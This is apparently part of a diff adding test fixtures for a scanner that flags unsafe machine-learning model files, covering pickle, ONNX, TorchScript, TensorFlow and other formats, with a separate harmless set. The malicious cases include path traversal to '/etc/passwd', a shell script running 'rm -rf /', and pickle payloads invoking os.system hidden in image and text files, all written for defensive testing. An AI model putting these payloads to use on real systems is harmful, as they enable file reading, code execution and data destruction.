+    yield "tensorflow-other-name", "model.bin", saved_model("ReadFile"), D
+    yield "tensorflow-damaged", "saved_model.pb", saved_model("ReadFile")[:-3], U
+    external = pb(8, "w") + pb(2, 1) + pb(1, 4) + pb(14, 1)
+    for name, path in {"parent": "../../../etc/passwd", "absolute": "/etc/passwd", "middle": "a/../../b", "windows": "..\\..\\x"}.items():
+        yield f"onnx-external-{name}", "m.onnx", onnx(initializers=pb(5, external + pb(13, pb(1, "location") + pb(2, path)))), D
+    yield "onnx-external-in-attribute", "m.onnx", onnx(nodes=pb(1, pb(4, "Constant") + pb(5, pb(1, "value") + pb(
+        5, external + pb(13, pb(1, "location") + pb(2, "../x")))))), D
+    yield "onnx-custom-operator", "m.onnx", onnx(nodes=pb(1, pb(4, "Evil") + pb(7, "evil.domain"))), U
+    yield "onnx-python-operator", "m.onnx", onnx(nodes=pb(1, pb(4, "PyOp") + pb(7, "com.microsoft"))), U
+    yield "onnx-custom-in-subgraph", "m.onnx", onnx(nodes=pb(1, pb(4, "If") + pb(5, pb(1, "then") + pb(6, pb(1, pb(4, "E") + pb(7, "evil")))))), U
+    yield "torchscript", "m.pt", zipped([("m/data.pkl", b"\x80\x02}."), ("m/code/__torch__.py", b"def f(x): pass\n"), ("m/constants.pkl", b"\x80\x02).")]), U
+    yield "torchscript-with-code-for-python", "m.pt", zipped([("m/data.pkl", SYSTEM), ("m/code/__torch__.py", b""), ("m/constants.pkl", b"\x80\x02).")]), D
+    yield "elf", "weights.bin", b"\x7fELF\2\1\1" + b"\0" * 64, U
+    yield "windows-program", "weights.dat", b"MZ" + b"\0" * 80, U
+    yield "script", "run", b"#!/bin/sh\nrm -rf /\n", U
+    yield "python-source", "modeling_x.py", b"import os\n", U
+    yield "png-that-is-a-pickle", "a.png", b"\x89PNG\r\n\x1a\n" + SYSTEM, U
+    yield "text-that-is-a-pickle", "notes.md", b"cos\nsystem\n(Vid\ntR.", D
+    yield "unknown-bytes", "weights.bin", bytes(range(1, 200)), U
+
+
+# ---- what has to stay safe ----
+
+def harmless():
+    import pickle
+    for proto in range(6):
+        yield f"plain-protocol-{proto}", "a.pkl", pickle.dumps({"a": [1, 2.5, "x", b"y", None, True, {3}, (4, 5), 10 ** 30, -1]}, proto)
+    yield "several", "a.pkl", pickle.dumps([1]) + pickle.dumps({"b": 2})
+    yield "long", "a.pkl", pickle.dumps(["x" * 100, list(range(10000)), b"y" * 200000])
+    yield "npy", "a.npy", npy(b"\0" * 8, "<f8")
+    yield "joblib", "a.joblib", (b"\x80\x04" + global_("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("shape") + b"K\2\x85" +
+                                text("dtype") + global_("numpy", "dtype") + text("f8") + b"\x89\x88\x87R(K\3" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb" +
+                                text("numpy_array_alignment_bytes") + b"K\x10ub\x03...cos\nsystem\n......")
+    yield "safetensors", "m.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4)
+    yield "gguf", "m.gguf", gguf()
+    yield "gguf-template", "m.gguf", gguf_template("{% for m in messages %}{{ m['role'] ~ ': ' ~ m.content }}{% endfor %}")
+    yield "tensorflow", "saved_model.pb", saved_model("Const", "MatMul", "SaveV2", "RestoreV2", library=["Relu"])
+    yield "onnx", "m.onnx", onnx(nodes=pb(1, pb(4, "Relu")), initializers=pb(5, pb(8, "w") + pb(13, pb(1, "location") + pb(2, "m.data"))))
+    yield "keras", "m.keras", keras({"module": "keras", "class_name": "Sequential", "config": {"layers": [
+        {"module": "keras.layers", "class_name": "Dense", "config": {"activation": "relu"}, "registered_name": None}]}})
+    yield "h5", "m.h5", h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {}}]}})
+    yield "text", "readme.md", "# Ein Modell für alle\n".encode()
+    yield "json", "config.json", b'{"architectures": ["LlamaForCausalLM"]}'
+    yield "zip", "a.zip", zipped([("a.txt", b"x"), ("b/", b"")])
+    yield "gzip", "a.gz", gzip.compress(b"text")
+    yield "empty", "a.bin", b""
+
+
+def attacks():
+    for group in (pickles, containers, models):
+        yield from group()
